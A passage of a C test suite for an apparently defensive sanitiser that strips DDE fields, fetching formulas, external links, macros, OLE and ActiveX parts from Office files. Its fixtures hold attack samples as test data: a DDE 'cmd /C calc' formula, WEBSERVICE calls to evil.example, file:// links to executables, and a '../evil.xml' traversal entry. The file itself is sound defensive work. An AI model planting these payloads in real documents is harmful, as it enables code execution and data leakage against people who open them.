	ck_assert_msg(notes->len == 0, "again: %s", (char *)notes->pdata[0]);
	g_bytes_unref(o2);
	g_free(t2);
	g_ptr_array_unref(notes);
}

/* GONE (lower case, up to 3, NULL ends) is in no member name and in no
 * member's content, binary parts included; KEPT is in some member. */
static void assert_gone_kept(GHashTable *h, const char *const *gone,
                             const char *kept, const char *what)
{
	GString *all = g_string_new(NULL);
	GHashTableIter it;
	gpointer key, v;

	g_hash_table_iter_init(&it, h);
	while (g_hash_table_iter_next(&it, &key, &v))
		g_string_append_len(all, ((GString *)v)->str, (gssize)((GString *)v)->len);
	/* binary parts too: past NUL bytes (g_ascii_strdown stops) */
	for (gsize j = 0; j < all->len; j++)
		all->str[j] = g_ascii_tolower(all->str[j]);
	for (int k = 0; k < 3 && gone[k]; k++) {
		ck_assert_msg(!any_contains(h, gone[k], true), "%s: part %s", what,
		              gone[k]);
		ck_assert_msg(!memmem(all->str, all->len, gone[k], strlen(gone[k])),
		              "%s: %s left", what, gone[k]);
	}
	g_string_free(all, TRUE);
	ck_assert_msg(any_contains(h, kept, false), "%s: lost %s", what, kept);
}

/* The output passes again with nothing to remove; then everything of one
 * check is freed. */
static void done_row(GBytes *in, GBytes *out, char *type, GHashTable *h,
                     GPtrArray *notes);

/* Row R's package IN (consumed) must come out as OUT_TYPE with the row's
 * strings gone and kept; WHERE names the variant in messages.  A row
 * without a note may have the type change's note when MACRO is set. */
static void check_row(const struct row *r, GBytes *in, const char *out_type,
                      const char *where, bool macro)
{
	GBytes *out = NULL;
	GPtrArray *notes = g_ptr_array_new_with_free_func(g_free);
	mk_error err = { 0 };
	char *type = NULL;
	int rc = run(in, &out, &type, notes, &err);

	ck_assert_msg(rc == r->rc, "%s %s: rc %d (%s)", r->name, where, rc, err.msg);
	if (rc == 0) {
		GHashTable *h = unzip_all(out);
		ck_assert_msg(strcmp(type, out_type) == 0, "%s %s: type %s", r->name,
		              where, type);
		char *what = g_strdup_printf("%s %s", r->name, where);
		assert_gone_kept(h, r->gone, r->kept, what);
		g_free(what);
		if (r->note)
			ck_assert_msg(notes_have(notes, r->note), "%s %s: no note %s",
			              r->name, where, r->note);
		else
			ck_assert_msg(notes->len == 0 || (macro && notes->len == 1 &&
			              notes_have(notes, "macro-free type")),
			              "%s %s: note %s", r->name, where,
			              (char *)notes->pdata[0]);
		done_row(in, out, type, h, notes);
		return;
	}
	done_row(in, out, type, NULL, notes);
}

static void done_row(GBytes *in, GBytes *out, char *type, GHashTable *h,
                     GPtrArray *notes)
{
	if (h != NULL) {
		check_again(out, type);
		g_hash_table_destroy(h);
	}
	g_bytes_unref(in);
	if (out)
		g_bytes_unref(out);
	g_free(type);
	g_ptr_array_unref(notes);
}

START_TEST(test_rows)
{
	check_row(&rows[_i], build_row(&rows[_i]), DOCX_T, "docx", false);
}
END_TEST

/* Every Word row in every sibling format (macro-enabled, template) and in
 * every part role (issue 13, item 9): a docm's main part used to keep its
 * DDE fields.  Rows that must fail are checked once, by test_rows. */
#define DOTX_T "application/vnd.openxmlformats-officedocument.wordprocessingml.template"
static const struct variant { const char *ext, *main_ct, *out_type; } word_variants[] = {
	{ "docx", DOCX_T ".main+xml", DOCX_T },
	{ "docm", DOCM_MAIN, DOCX_T },
	{ "dotx", DOTX_T ".main+xml", DOTX_T },
	{ "dotm", "application/vnd.ms-word.template.macroEnabledTemplate.main+xml", DOTX_T },
};

START_TEST(test_word_matrix)
{
	const struct row *r = &rows[_i];
	char where[64];

	if (r->rc != 0)
		return;
	for (gsize i = 0; i < G_N_ELEMENTS(word_variants); i++) {
		const struct variant *v = &word_variants[i];

		for (gsize k = 0; k < G_N_ELEMENTS(word_places); k++) {
			const struct place *pl = &word_places[k];

			g_snprintf(where, sizeof where, "%s/%s", v->ext,
			           pl->part ? pl->part : "main");
			check_row(r, build_row_in(r, v->main_ct, pl), v->out_type, where,
			          strstr(v->main_ct, "macroEnabled") != NULL);
		}
	}
}
END_TEST

/* ---- xlsx: data connections, external links, fetching formulas ---- */

#define XLSX_T "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
#define S_NS "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
#define SML "application/vnd.openxmlformats-officedocument.spreadsheetml."

static const struct xrow {
	const char *name;
	const char *overrides;      /* extra <Override/> */
	const char *wb_rels;        /* extra xl/_rels/workbook.xml.rels rows */
	const char *wb_extra;       /* after <sheets> in workbook.xml */
	const char *sheet;          /* inside <sheetData> */
	const char *sheet_tail;     /* after </sheetData> */
	const char *extra[2][2];
	const char *gone[3];        /* lower case, in no member or name */
	const char *kept;
	const char *note;
} xrows[] = {
	{ "connections",
	  "<Override PartName=\"/xl/connections.xml\" ContentType=\"" SML "connections+xml\"/>",
	  "<Relationship Id=\"rId5\" Type=\"" R_NS "/connections\" Target=\"connections.xml\"/>",
	  NULL, NULL, NULL,
	  { { "xl/connections.xml", "<connections xmlns=\"" S_NS "\"><connection id=\"1\" name=\"q\" type=\"4\" refreshOnLoad=\"1\"><webPr url=\"http://evil.example/q.html\"/></connection>"
	      "<connection id=\"2\" name=\"o\" type=\"1\"><dbPr connection=\"DBQ=\\\\evil.example\\s\\x.mdb;\"/></connection></connections>" } },
	  { "connections", "evil.example", "refreshonload" }, "sheetData", "connections.xml" },
	{ "querytable",
	  "<Override PartName=\"/xl/queryTables/queryTable1.xml\" ContentType=\"" SML "queryTable+xml\"/>",
	  "<Relationship Id=\"rId6\" Type=\"" R_NS "/queryTable\" Target=\"queryTables/queryTable1.xml\"/>",
	  NULL, NULL, NULL,
	  { { "xl/queryTables/queryTable1.xml", "<queryTable xmlns=\"" S_NS "\" name=\"evil\" connectionId=\"1\"/>" } },
	  { "querytable", "rid6" }, "sheetData", "queryTable1.xml" },
	{ "external-link",
	  "<Override PartName=\"/xl/externalLinks/externalLink1.xml\" ContentType=\"" SML "externalLink+xml\"/>",
	  "<Relationship Id=\"rId7\" Type=\"" R_NS "/externalLink\" Target=\"externalLinks/externalLink1.xml\"/>",
	  "<externalReferences><externalReference r:id=\"rId7\"/></externalReferences>",
	  "<row r=\"1\"><c r=\"A1\"><f>[1]Sheet1!A1</f><v>5</v></c></row>", NULL,
	  { { "xl/externalLinks/externalLink1.xml", "<externalLink xmlns=\"" S_NS "\"><externalBook/></externalLink>" } },
	  { "externallink", "externalreference", "[1]sheet1" }, "<v>5</v>", "formula" },
	{ "webservice", NULL, NULL, NULL,
	  "<row r=\"1\"><c r=\"A1\" t=\"str\"><f>_xlfn.WEBSERVICE(\"http://evil.example/?a=1\")</f><v>cached</v></c></row>", NULL,
	  { { NULL } }, { "webservice", "evil.example", "t=\"str\"" }, "<t>cached</t>", "formula" },
	{ "hyperlink-file", NULL, NULL, NULL,
	  "<row r=\"1\"><c r=\"B1\" t=\"str\"><f>HYPERLINK(\"file://evil.example/s/x.exe\",\"click\")</f><v>click</v></c></row>", NULL,
	  { { NULL } }, { "file://", "hyperlink" }, "click", "formula" },
	{ "dde-pipe", NULL, NULL, NULL,
	  "<row r=\"1\"><c r=\"A1\"><f>cmd|' /C calc'!A0</f><v>0</v></c></row>", NULL,
	  { { NULL } }, { "calc" }, "<v>0</v>", "formula" },
	{ "shared-formula", NULL, NULL, NULL,
	  "<row r=\"1\"><c r=\"A1\"><f t=\"shared\" ref=\"A1:A2\" si=\"0\">RTD(\"x.server\",,B1)</f><v>1</v></c></row>"
	  "<row r=\"2\"><c r=\"A2\"><f t=\"shared\" si=\"0\"/><v>2</v></c></row>", NULL,
	  { { NULL } }, { "rtd(", "si=\"0\"" }, "<v>2</v>", "formula" },
	{ "defined-name", NULL, NULL,
	  "<definedNames><definedName name=\"x\">_xlfn.WEBSERVICE(\"http://evil.example/\")</definedName></definedNames>",
	  NULL, NULL, { { NULL } }, { "evil.example", "definedname" }, "sheetData", "formula" },
	{ "cf-rule", NULL, NULL, NULL, "<row r=\"1\"><c r=\"A1\"><v>1</v></c></row>",
	  "<conditionalFormatting sqref=\"A1\"><cfRule type=\"expression\" priority=\"1\"><formula>LEN(_xlfn.IMAGE(\"http://evil.example/a.png\"))&gt;0</formula></cfRule></conditionalFormatting>",
	  { { NULL } }, { "evil.example", "conditionalformatting" }, "<v>1</v>", "formula" },
	/* a shape or form control that names a macro (in another workbook) */
	{ "shape-macro",
	  "<Override PartName=\"/xl/drawings/drawing1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.drawing+xml\"/>"
	  "<Override PartName=\"/xl/drawings/vmlDrawing1.vml\" ContentType=\"application/vnd.openxmlformats-officedocument.vmlDrawing\"/>",
	  NULL, NULL, NULL, NULL,
	  { { "xl/drawings/drawing1.xml", "<xdr:wsDr xmlns:xdr=\"http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing\"><xdr:sp macro=\"'\\\\evil.example\\s\\x.xlsm'!Module1.Run\" textlink=\"\"><xdr:nvSpPr><xdr:cNvPr id=\"2\" name=\"Button\"/></xdr:nvSpPr></xdr:sp></xdr:wsDr>" },
	    { "xl/drawings/vmlDrawing1.vml", "<xml xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:x=\"urn:schemas-microsoft-com:office:excel\"><v:shape><x:ClientData ObjectType=\"Button\"><x:FmlaMacro>[0]!Evil</x:FmlaMacro><x:FmlaLink>[1]Sheet1!A1</x:FmlaLink><x:TextHAlign>Center</x:TextHAlign></x:ClientData></v:shape></xml>" } },
	  { "evil.example", "fmla", "macro=" }, "x:TextHAlign", "link/macro" },
	/* a table column's formula is a formula too */
	{ "table-formula",
	  "<Override PartName=\"/xl/tables/table1.xml\" ContentType=\"" SML "table+xml\"/>",
	  NULL, NULL, NULL, NULL,
	  { { "xl/tables/table1.xml", "<table xmlns=\"" S_NS "\" id=\"1\" name=\"T\" ref=\"A1:A2\"><tableColumns count=\"1\"><tableColumn id=\"1\" name=\"C\">"
	      "<calculatedColumnFormula>_xlfn.WEBSERVICE(\"http://evil.example/\")</calculatedColumnFormula></tableColumn></tableColumns></table>" } },
	  { "evil.example", "calculatedcolumnformula" }, "tableColumn", "formula" },
	/* a pivot cache's calculated field keeps its formula in an attribute */
	{ "pivot-calculated-field",
	  "<Override PartName=\"/xl/pivotCache/pivotCacheDefinition1.xml\" ContentType=\"" SML "pivotCacheDefinition+xml\"/>",
	  NULL, NULL, NULL, NULL,
	  { { "xl/pivotCache/pivotCacheDefinition1.xml", "<pivotCacheDefinition xmlns=\"" S_NS "\"><cacheFields count=\"2\"><cacheField name=\"a\" numFmtId=\"0\"/>"
	      "<cacheField name=\"b\" numFmtId=\"0\" formula=\"_xlfn.WEBSERVICE(&quot;http://evil.example/&quot;)\"/></cacheFields></pivotCacheDefinition>" } },
	  { "evil.example", "webservice" }, "cacheField name=\"b\"", "formula" },
	/* cell hyperlinks: the cell shows its value and the defanged URL as an
	 * inline string (shared string without its phonetic run, number);
	 * a file: link goes without a trace (issue 14) */
	{ "cell-hyperlink",
	  "<Override PartName=\"/xl/sharedStrings.xml\" ContentType=\"" SML "sharedStrings+xml\"/>",
	  "<Relationship Id=\"rId8\" Type=\"" R_NS "/sharedStrings\" Target=\"sharedStrings.xml\"/>",
	  NULL,
	  "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c><c r=\"B1\"><v>42</v></c><c r=\"C1\" t=\"s\"><v>1</v></c></row>",
	  "<hyperlinks><hyperlink ref=\"A1\" r:id=\"rId1\"/><hyperlink ref=\"B1:B2\" r:id=\"rId2\"/><hyperlink ref=\"C1\" r:id=\"rId3\"/></hyperlinks>",
	  { { "xl/worksheets/_rels/sheet1.xml.rels", "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
	      "<Relationship Id=\"rId1\" Type=\"" R_NS "/hyperlink\" Target=\"https://www.example.jp/a\" TargetMode=\"External\"/>"
	      "<Relationship Id=\"rId2\" Type=\"" R_NS "/hyperlink\" Target=\"http://city.example.lg.jp/x\" TargetMode=\"External\"/>"
	      "<Relationship Id=\"rId3\" Type=\"" R_NS "/hyperlink\" Target=\"file://srv/share/x.exe\" TargetMode=\"External\"/></Relationships>" },
	    { "xl/sharedStrings.xml", "<sst xmlns=\"" S_NS "\"><si><t>お知らせ</t></si><si><r><t>共有</t></r><rPh sb=\"0\" eb=\"2\"><t>キョウユウ</t></rPh></si></sst>" } },
	  { "srv", "https:", "hyperlink ref=\"a1\"" },
	  "<c r=\"A1\" t=\"inlineStr\"><is><t xml:space=\"preserve\">お知らせ &lt;hxxps://www[.]example[.]jp/a&gt;</t></is></c>"
	  "<c r=\"B1\" t=\"inlineStr\"><is><t xml:space=\"preserve\">42 &lt;hxxp://city[.]example[.]lg[.]jp/x&gt;</t></is></c><c r=\"C1\" t=\"s\"><v>1</v></c>",
	  "web_link 2: " },
	/* harmless formulas stay, also with a denied name inside a string */
	{ "safe-formula", NULL, NULL,
	  "<definedNames><definedName name=\"_xlnm.Print_Area\" localSheetId=\"0\">Sheet1!$A$1:$B$2</definedName></definedNames>",
	  "<row r=\"1\"><c r=\"A1\"><f>SUM(A2:A3)+LEN(\"WEBSERVICE(|[1]\")+Table1[[#This Row],[Col]]</f><v>3</v></c></row>", NULL,
	  { { NULL } }, { NULL }, "SUM(A2:A3)+LEN(", NULL },
};

static GBytes *build_xrow_as(const struct xrow *r, const char *main_ct)
{
	GPtrArray *n = g_ptr_array_new();
	GPtrArray *d = g_ptr_array_new_with_free_func((GDestroyNotify)g_bytes_unref);

	g_ptr_array_add(n, "[Content_Types].xml");
	g_ptr_array_add(d, str_bytes(g_strdup_printf("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
	    "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
	    "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
	    "<Override PartName=\"/xl/workbook.xml\" ContentType=\"%s\"/>"
	    "<Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"" SML "worksheet+xml\"/>%s</Types>",
	    main_ct, r->overrides ? r->overrides : "")));
	g_ptr_array_add(n, "_rels/.rels");
	g_ptr_array_add(d, str_bytes(g_strdup("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
	    "<Relationship Id=\"rId1\" Type=\"" R_NS "/officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>")));
	g_ptr_array_add(n, "xl/workbook.xml");
	g_ptr_array_add(d, str_bytes(g_strdup_printf("<workbook xmlns=\"" S_NS "\" xmlns:r=\"" R_NS "\"><sheets><sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/></sheets>%s</workbook>",
	    r->wb_extra ? r->wb_extra : "")));
	g_ptr_array_add(n, "xl/_rels/workbook.xml.rels");
	g_ptr_array_add(d, str_bytes(g_strdup_printf("<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
	    "<Relationship Id=\"rId1\" Type=\"" R_NS "/worksheet\" Target=\"worksheets/sheet1.xml\"/>%s</Relationships>",
	    r->wb_rels ? r->wb_rels : "")));
	g_ptr_array_add(n, "xl/worksheets/sheet1.xml");
	g_ptr_array_add(d, str_bytes(g_strdup_printf("<worksheet xmlns=\"" S_NS "\" xmlns:r=\"" R_NS "\"><sheetData>%s</sheetData>%s</worksheet>",
	    r->sheet ? r->sheet : "", r->sheet_tail ? r->sheet_tail : "")));
	return package(n, d, r->extra, G_N_ELEMENTS(r->extra));
}

/* Every xlsx row as a workbook of each sibling format (issue 13, item 9):
 * an xlsm's workbook is "application/vnd.ms-excel.sheet.macroEnabled.
 * main+xml" and used to keep its defined names; an add-in had no main
 * part the filter knew. */
#define XLTX_T "application/vnd.openxmlformats-officedocument.spreadsheetml.template"
static const struct variant xl_variants[] = {
	{ "xlsx", SML "sheet.main+xml", XLSX_T },
	{ "xlsm", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", XLSX_T },
	{ "xltx", SML "template.main+xml", XLTX_T },
	{ "xltm", "application/vnd.ms-excel.template.macroEnabled.main+xml", XLTX_T },
	{ "xlam", "application/vnd.ms-excel.addin.macroEnabled.main+xml", XLSX_T },
};

static void check_xrow(const struct xrow *r, const struct variant *v)
{
	GBytes *in = build_xrow_as(r, v->main_ct), *out = NULL;
	GPtrArray *notes = g_ptr_array_new_with_free_func(g_free);
	mk_error err = { 0 };
	char *type = NULL;
	bool macro = strstr(v->main_ct, "macroEnabled") != NULL;

	ck_assert_msg(run(in, &out, &type, notes, &err) == 0, "%s %s: %s", r->name,
	              v->ext, err.msg);
	ck_assert_msg(strcmp(type, v->out_type) == 0, "%s %s: type %s", r->name,
	              v->ext, type);
	GHashTable *h = unzip_all(out);
	char *what = g_strdup_printf("%s %s", r->name, v->ext);
	assert_gone_kept(h, r->gone, r->kept, what);
	g_free(what);
	if (r->note)
		ck_assert_msg(notes_have(notes, r->note), "%s %s: no note %s", r->name,
		              v->ext, r->note);
	else
		ck_assert_msg(notes->len == 0 || (macro && notes->len == 1 &&
		              notes_have(notes, "macro-free type")), "%s %s: note %s",
		              r->name, v->ext, (char *)notes->pdata[0]);
	done_row(in, out, type, h, notes);
}

START_TEST(test_xlsx)
{
	for (gsize i = 0; i < G_N_ELEMENTS(xl_variants); i++)
		check_xrow(&xrows[_i], &xl_variants[i]);
}
END_TEST

/* ---- PowerPoint: every row in every sibling format and part role ---- */

#define PML "application/vnd.openxmlformats-officedocument.presentationml."
#define P_NS "http://schemas.openxmlformats.org/presentationml/2006/main"
#define A_NS "http://schemas.openxmlformats.org/drawingml/2006/main"
#define PNS "xmlns:p=\"" P_NS "\" xmlns:a=\"" A_NS "\" xmlns:r=\"" R_NS "\""
#define SHAPE(attrs) "<p:sp><p:nvSpPr><p:cNvPr id=\"2\" name=\"Btn\">" attrs \
	"</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/></p:sp>"

static const struct prow {
	const char *name;
	const char *overrides, *part_rels, *root_rels, *shapes;
	const char *extra[2][2];
	const char *gone[3], *kept, *note;
} prows[] = {
	{ "action-macro", NULL, NULL, NULL,
	  SHAPE("<a:hlinkClick r:id=\"\" action=\"ppaction://macro?name=Evil\"/>"),
	  { { NULL } }, { "ppaction://macro", "evil" }, "name=\"Btn\"", "link/macro" },
	{ "action-program", NULL,
	  "<Relationship Id=\"rId5\" Type=\"" R_NS "/hyperlink\" Target=\"file:///c:/windows/system32/calc.exe\" TargetMode=\"External\"/>",
	  NULL, SHAPE("<a:hlinkClick r:id=\"rId5\" action=\"ppaction://program\"/>"),
	  { { NULL } }, { "ppaction://program", "calc.exe" }, "name=\"Btn\"", "link/macro" },
	{ "external-hyperlink", NULL,
	  "<Relationship Id=\"rId4\" Type=\"" R_NS "/hyperlink\" Target=\"http://evil.example/\" TargetMode=\"External\"/>",
	  NULL, SHAPE("<a:hlinkClick r:id=\"rId4\"/>"),
	  { { NULL } }, { "evil.example", "rid4" }, "name=\"Btn\"", "external relationship" },
	{ "ole-object",
	  "<Override PartName=\"/ppt/embeddings/oleObject1.bin\" ContentType=\"application/vnd.openxmlformats-officedocument.oleObject\"/>",
	  "<Relationship Id=\"rId7\" Type=\"" R_NS "/oleObject\" Target=\"embeddings/oleObject1.bin\"/>",
	  NULL, "<p:graphicFrame><a:graphic><a:graphicData><p:oleObj progId=\"Package\" r:id=\"rId7\"/></a:graphicData></a:graphic></p:graphicFrame>" SHAPE(""),
	  { { "ppt/embeddings/oleObject1.bin", "OLE" } }, { "oleobject", "oleobj" }, "name=\"Btn\"", "oleObject1.bin" },
	{ "activex-control",
	  "<Override PartName=\"/ppt/activeX/activeX1.xml\" ContentType=\"application/vnd.ms-office.activeX+xml\"/>",
	  "<Relationship Id=\"rId8\" Type=\"" R_NS "/control\" Target=\"activeX/activeX1.xml\"/>",
	  NULL, "<p:controls><p:control name=\"X\" r:id=\"rId8\"/></p:controls>" SHAPE(""),
	  { { "ppt/activeX/activeX1.xml", "<ax:ocx xmlns:ax=\"urn:x\"/>" } },
	  { "activex", "p:control" }, "name=\"Btn\"", "activeX1.xml" },
	{ "vbaproject", "<Override PartName=\"/ppt/vbaProject.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>",
	  NULL, NULL, SHAPE(""), { { "ppt/vbaProject.bin", "VBA\x01" } },
	  { "vbaproject" }, "name=\"Btn\"", "vbaProject.bin" },
};

#define PPLACE(stem, root, rel, ct) { "ppt/" stem ".xml", "ppt/_rels/" stem ".xml.rels", \
	"<p:" root " " PNS "><p:cSld><p:spTree>", "</p:spTree></p:cSld></p:" root ">", \
	"<Relationship Id=\"rIdPlace\" Type=\"" R_NS "/" rel "\" Target=\"" stem ".xml\"/>", \
	"<Override PartName=\"/ppt/" stem ".xml\" ContentType=\"" PML ct "\"/>" }
static const struct place ppt_places[] = {
	PPLACE("slide1", "sld", "slide", "slide+xml"),
	PPLACE("slideLayout1", "sldLayout", "slideLayout", "slideLayout+xml"),
	PPLACE("slideMaster1", "sldMaster", "slideMaster", "slideMaster+xml"),
	PPLACE("notesSlide1", "notes", "notesSlide", "notesSlide+xml"),
};

#define PPTX_T "application/vnd.openxmlformats-officedocument.presentationml.presentation"
static const struct variant ppt_variants[] = {
	{ "pptx", PML "presentation.main+xml", PPTX_T },
	{ "pptm", "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml", PPTX_T },
	{ "potx", PML "template.main+xml", PML "template" },
	{ "potm", "application/vnd.ms-powerpoint.template.macroEnabled.main+xml", PML "template" },
	{ "ppsx", PML "slideshow.main+xml", PML "slideshow" },
	{ "ppsm", "application/vnd.ms-powerpoint.slideshow.macroEnabled.main+xml", PML "slideshow" },
	{ "ppam", "application/vnd.ms-powerpoint.addin.macroEnabled.main+xml", PPTX_T },
};

static GBytes *build_prow(const struct prow *r, const struct variant *v,
                          const struct place *pl)
{
	GPtrArray *n = g_ptr_array_new();
	GPtrArray *d = g_ptr_array_new_with_free_func((GDestroyNotify)g_bytes_unref);
	bool vba = strcmp(r->name, "vbaproject") == 0;

	g_ptr_array_add(n, "[Content_Types].xml");
	g_ptr_array_add(d, str_bytes(g_strdup_printf("<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
	    "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
	    "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
	    "<Override PartName=\"/ppt/presentation.xml\" ContentType=\"%s\"/>%s%s</Types>",
	    v->main_ct, pl->override, r->overrides ? r->overrides : "")));
	g_ptr_array_add(n, "_rels/.rels");
	g_ptr_array_add(d, str_bytes(g_strdup(RELS_OPEN "<Relationship Id=\"rId1\" Type=\""
	    R_NS "/officeDocument\" Target=\"ppt/presentation.xml\"/></Relationships>")));
	g_ptr_array_add(n, "ppt/presentation.xml");
	g_ptr_array_add(d, str_bytes(g_strdup("<p:presentation " PNS "><p:sldIdLst/></p:presentation>")));
	g_ptr_array_add(n, "ppt/_rels/presentation.xml.rels");
	g_ptr_array_add(d, str_bytes(g_strdup_printf(RELS_OPEN "%s%s</Relationships>", pl->rel,
	    vba ? "<Relationship Id=\"rIdV\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/>" : "")));
	g_ptr_array_add(n, (gpointer)pl->part);
	g_ptr_array_add(d, str_bytes(g_strdup_printf("%s%s%s", pl->open, r->shapes, pl->close)));
	g_ptr_array_add(n, (gpointer)pl->rels);
	g_ptr_array_add(d, str_bytes(g_strdup_printf(RELS_OPEN "%s</Relationships>",
	    r->part_rels ? r->part_rels : "")));
	return package(n, d, r->extra, G_N_ELEMENTS(r->extra));
}

static void check_prow(const struct prow *r, const struct variant *v,
                       const struct place *pl)
{
	GBytes *in = build_prow(r, v, pl), *out = NULL;
	GPtrArray *notes = g_ptr_array_new_with_free_func(g_free);
	mk_error err = { 0 };
	char *type = NULL;

	ck_assert_msg(run(in, &out, &type, notes, &err) == 0, "%s %s %s: %s",
	              r->name, v->ext, pl->part, err.msg);
	ck_assert_msg(strcmp(type, v->out_type) == 0, "%s %s: type %s", r->name,
	              v->ext, type);
	GHashTable *h = unzip_all(out);
	char *what = g_strdup_printf("%s %s %s", r->name, v->ext, pl->part);
	assert_gone_kept(h, r->gone, r->kept, what);
	ck_assert_msg(notes_have(notes, r->note), "%s: no note %s", what, r->note);
	g_free(what);
	done_row(in, out, type, h, notes);
}

START_TEST(test_ppt_matrix)
{
	for (gsize i = 0; i < G_N_ELEMENTS(ppt_variants); i++)
		for (gsize k = 0; k < G_N_ELEMENTS(ppt_places); k++)
			check_prow(&prows[_i], &ppt_variants[i], &ppt_places[k]);
}
END_TEST

START_TEST(test_not_ooxml)
{
	static const struct { const char *data, *msg; } bad[] = {
		{ "not a zip at all", "zip" },
		{ "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1 ole2", "encrypted" },
	};
	GBytes *in = g_bytes_new_static(bad[_i].data, strlen(bad[_i].data));
	GBytes *out = NULL;
	char *type = NULL;
	GPtrArray *notes = g_ptr_array_new_with_free_func(g_free);
	mk_error err = { 0 };
	ck_assert_int_eq(run(in, &out, &type, notes, &err), MK_ERR_DATA);
	ck_assert_msg(strstr(err.msg, bad[_i].msg), "%s", err.msg);
	g_bytes_unref(in);
	g_ptr_array_unref(notes);
}
END_TEST

START_TEST(test_bad_name)
{
	GPtrArray *n = g_ptr_array_new();
	GPtrArray *d = g_ptr_array_new_with_free_func((GDestroyNotify)g_bytes_unref);
	g_ptr_array_add(n, "../evil.xml");
	g_ptr_array_add(d, g_bytes_new_static("<x/>", 4));
	GBytes *in = make_zip(n, d), *out = NULL;
	char *type = NULL;
	GPtrArray *notes = g_ptr_array_new_with_free_func(g_free);
	mk_error err = { 0 };
	ck_assert_int_eq(run(in, &out, &type, notes, &err), MK_ERR_DATA);
	g_bytes_unref(in);
	g_ptr_array_free(n, TRUE);
	g_ptr_array_unref(d);
	g_ptr_array_unref(notes);
}
END_TEST

static const struct sample {
	const char *path;       /* under corpora/oletools/ */
	int rc;
	const char *type_tail;  /* end of the output type */
} samples[] = {
	{ "oleform/oleform-PR314.docm", 0, "wordprocessingml.document" },
	{ "oleobj/embedded-simple-2007.docm", 0, "wordprocessingml.document" },
	{ "oleobj/embedded-simple-2007.docx", 0, "wordprocessingml.document" },
	{ "oleobj/embedded-simple-2007.dotm", 0, "wordprocessingml.template" },
	{ "oleobj/embedded-simple-2007.xlsm", 0, "spreadsheetml.sheet" },
	{ "oleobj/embedded-simple-2007.pptm", 0, "presentationml.presentation" },
	{ "oleobj/embedded-simple-2007.ppsm", 0, "presentationml.slideshow" },
	{ "oleobj/embedded-unicode-2007.docx", 0, "wordprocessingml.document" },
	{ "oleobj/external_link/sample_with_external_link_to_doc.docx", 0, "document" },
	{ "oleobj/external_link/sample_with_external_link_to_doc.xlsm", 0, "sheet" },
	{ "oleobj/external_link/sample_with_external_link_to_doc.pptx", 0, "presentation" },
	{ "msodde/dde-test.docx", 0, "wordprocessingml.document" },
	{ "msodde/dde-test.xlsx", 0, "spreadsheetml.sheet" },
	{ "msodde/harmless-clean.docm", 0, "wordprocessingml.document" },
	{ "excel4-macros/excel4_sample_macro.xlsm", 0, "spreadsheetml.sheet" },
	{ "excel4-macros/excel4_sample_macro.xlsb", MK_ERR_DATA, NULL },
	{ "encrypted/encrypted.docx", MK_ERR_DATA, NULL },
	{ "oleobj/external_link/sample_with_external_link_to_doc.xlsb", MK_ERR_DATA, NULL },
};

START_TEST(test_samples)
{
	const struct sample *s = &samples[_i];
	char *rel = g_strconcat("corpora/oletools/", s->path, NULL);
	char *path = mkt_shared_path(rel);
	GBytes *in = mkt_read(path), *out = NULL;
	GPtrArray *notes = g_ptr_array_new_with_free_func(g_free);
	mk_error err = { 0 };
	char *type = NULL;
	int rc = run(in, &out, &type, notes, &err);

	ck_assert_msg(rc == s->rc, "%s: rc %d (%s)", s->path, rc, err.msg);
	if (rc == 0) {
		GHashTable *h = unzip_all(out);
		ck_assert_msg(g_str_has_suffix(type, s->type_tail), "%s: %s", s->path,
		              type);
		static const char *const names[] = { "vba", "activex", "oleobject",
			"embeddings", "macrosheet", "externallink", NULL };
		for (int k = 0; names[k]; k++)
			ck_assert_msg(!any_contains(h, names[k], true), "%s: %s part",
			              s->path, names[k]);
		ck_assert(!any_contains(h, "TargetMode=\"External\"", false));
		ck_assert(!any_contains(h, "macroEnabled", false));
		ck_assert(!any_contains(h, "DDEAUTO", false));
		/* the end-of-central-directory record (no comment) ends the file:
		 * LibreOffice refuses a package with bytes after it */
		gsize n = 0;
		const guint8 *z = g_bytes_get_data(out, &n);
		ck_assert_msg(n > 22 && memcmp(z + n - 22, "PK\x05\x06", 4) == 0,
		              "%s: bytes after the zip directory", s->path);
		check_again(out, type);
		g_hash_table_destroy(h);
	}
	if (out)
		g_bytes_unref(out);
	g_bytes_unref(in);
	g_free(type);
	g_free(path);
	g_free(rel);
	g_ptr_array_unref(notes);
}
END_TEST

/* Limits on a real document (11 parts, largest 17754 bytes): one row per
 * bound, just enough and one short; short must fail, never pass. */
static const struct lrow {
	gint64 parts, part_size, max_output;
	int rc;
	const char *msg;
} lrows[] = {
	{ 11, 17754, 64 * MK_MiB, 0, NULL },
	{ 10, 17754, 64 * MK_MiB, MK_ERR_LIMIT, "ooxml.max_parts" },
	{ 11, 17753, 64 * MK_MiB, MK_ERR_LIMIT, "ooxml.max_part_size" },
	{ 11, 17754, 40000, MK_ERR_LIMIT, "unpacked size" },
	{ 0, 17754, 64 * MK_MiB, MK_ERR_CONFIG, "unset" },
	{ 11, 0, 64 * MK_MiB, MK_ERR_CONFIG, "unset" },
};

START_TEST(test_limits)
{
	const struct lrow *r = &lrows[_i];
